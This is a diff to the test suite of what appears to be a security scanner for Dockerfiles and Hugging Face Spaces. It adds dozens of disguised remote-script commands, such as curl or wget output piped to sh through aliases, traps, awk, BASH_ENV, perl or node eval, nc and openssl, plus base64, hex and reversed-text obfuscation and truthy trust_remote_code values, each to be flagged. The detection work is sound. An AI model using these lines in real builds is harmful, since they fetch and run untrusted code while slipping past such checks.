@@ -53,10 +53,72 @@ def rules_of(files: dict[str, str | bytes], *select: str) -> set[str]:
         f"RUN busybox wget -O- {URL} | busybox sh",
         f"RUN curl {URL} | /bin/busybox ash",
         f"RUN wget -qO /tmp/x {URL} && P=/tmp/x && sh $P",
+        f'RUN q() {{ curl "$@"; }}; q -s {URL} | sh',
+        f"RUN alias q=curl; q -s {URL} | sh",
+        f"RUN cp /usr/bin/curl /usr/bin/q && q -s {URL} | sh",
+        f'RUN set -- curl -s {URL}; "$@" | sh',
+        f"RUN for c in curl; do $c -s {URL} | sh; done",
+        f"RUN a=__curl; ${{a#__}} -s {URL} | sh",
+        f"RUN if true; then curl -s {URL}; fi | sh",
+        f"RUN while true; do curl -s {URL}; done | bash",
+        f"RUN curl -s {URL} | dd of=/tmp/a; bash /tmp/a",
+        f"RUN curl -s {URL} | cat > /tmp/a; bash /tmp/a",
+        f"RUN curl -so /tmp/a {URL}; find /tmp -name a -exec sh {{}} \\;",
+        f"RUN curl -s {URL} | parallel",
+        f"RUN trap 'curl -s {URL} | sh' EXIT",
+        f"RUN awk 'BEGIN{{system(\"curl -s {URL} | sh\")}}'",
+        f"RUN curl -so /tmp/a {URL}\nENV BASH_ENV=/tmp/a\nRUN bash -c true",
+        f"RUN cat > /tmp/a <<E\ncurl -s {URL} | sh\nE\nRUN sh /tmp/a",
+        f'RUN echo "curl -s {URL} | sh" > /tmp/a; sh /tmp/a',
+        f'RUN printf "\\143url -s {URL} | sh" | sh',
+        f'RUN echo "curl -s {URL} | sh" | sh',
+        f"RUN perl -MLWP::Simple -e 'eval get(\"{URL}\")'",
+        f"RUN node -e 'fetch(\"{URL}\").then(r=>r.text()).then(eval)'",
+        f"RUN lynx -source {URL} | sh",
+        "RUN nc example.com 80 | sh",
+        "RUN openssl s_client -connect example.com:443 | sh",
+        "RUN ssh a@example.com cat x | sh",
+        f"RUN wget -O /a {URL}\nFROM python:3.12\nCOPY --from=0 /a /b\nRUN sh /b",
     ],
 )
-def test_a_script_from_the_network_behind_a_variable(lines: str) -> None:
+def test_a_script_from_the_network_in_disguise(lines: str) -> None:
     assert rules_of({"Dockerfile": f"FROM python:3.12\n{lines}\n"}, "remote-script") == {"remote-script high"}
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "RUN $(echo lruc | rev) -s https://example.com",
+        "RUN curl -s x | $(echo SH | tr A-Z a-z)",
+        "RUN echo 6375726c | xxd -r -p | sh",
+        "RUN echo aGk= | openssl base64 -d | sh",
+        "RUN echo aGk= | openssl enc -base64 -d | bash",
+        "RUN echo hs | rev | sh",
+    ],
+)
+def test_text_that_is_made_readable_and_run(lines: str) -> None:
+    assert rules_of({"Dockerfile": f"FROM python:3.12\n{lines}\n"}, "obfuscated-code") == {"obfuscated-code high"}
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        f'RUN q() {{ curl "$@"; }}; q -so /a {URL}',
+        f"RUN if true; then curl -so /tmp/a {URL}; fi; echo x | sh",
+        "RUN if true; then cat x.sh; fi | sh",
+        f"RUN cat > /README <<E\ncurl -s {URL} | sh\nE",
+        f'RUN echo "run curl -s {URL} | sh"',
+        "RUN tr -d x < install.sh | sh",
+        "RUN echo x | rev",
+        f"RUN perl -e 'print \"{URL}\"'",
+        "RUN nc -z example.com 80 && echo up",
+        "RUN trap 'rm -f /tmp/a' EXIT",
+        "RUN find . -name '*.sh' -exec sh {} \\;",
+        "RUN ssh-keygen -t rsa | sh -c true",
+    ],
+)
+def test_what_looks_like_a_disguise_is_none(lines: str) -> None:
+    assert rules_of({"Dockerfile": f"FROM python:3.12\n{lines}\n"}, "remote-script", "obfuscated-code") == set()
 
 
 @pytest.mark.parametrize(
@@ -160,3 +222,28 @@ def test_a_hook_of_every_start_in_any_form(path: str, found: bool) -> None:
 def test_a_setting_of_the_card_by_a_merge(lines: str, found: bool) -> None:
     card = f"---\nsdk: gradio\nhf_oauth: true\n{lines}---\n"
     assert bool(rules_of({"README.md": card}, "broad-oauth-scope")) is found
+
+
+LOAD = 'from transformers import AutoModel\nimport os\nm = AutoModel.from_pretrained("a/b", GIVEN)\n'
+
+
+@pytest.mark.parametrize(
+    ("given", "found"),
+    [
+        *(
+            (f"trust_remote_code={value}", True)
+            for value in ("[1]", '{"a"}', "~0", "lambda: 1", 'int("1")', 'len("a")')
+        ),
+        *((f"trust_remote_code={value}", True) for value in ("any([True])", "1.0", "not not 1", '"False"')),
+        *((f"trust_remote_code={value}", False) for value in ("[]", "{}", "~-1", 'int("0")', 'len("")', "any([0])")),
+        ('**({} | {"trust_" + "remote_code": True})', True),
+        ('**({} | {"trust_" + "remote_code": False})', False),
+        ("trust_remote_code=os.path.exists('x')", False),
+    ],
+)
+def test_what_counts_as_true_switches_code_of_models_on(given: str, found: bool) -> None:
+    report = check_space(
+        space_of({"README.md": "---\nsdk: gradio\napp_file: app.py\n---\n", "app.py": LOAD.replace("GIVEN", given)}),
+        plan("trusted-remote-code"),
+    )
+    assert bool(report.findings) is found
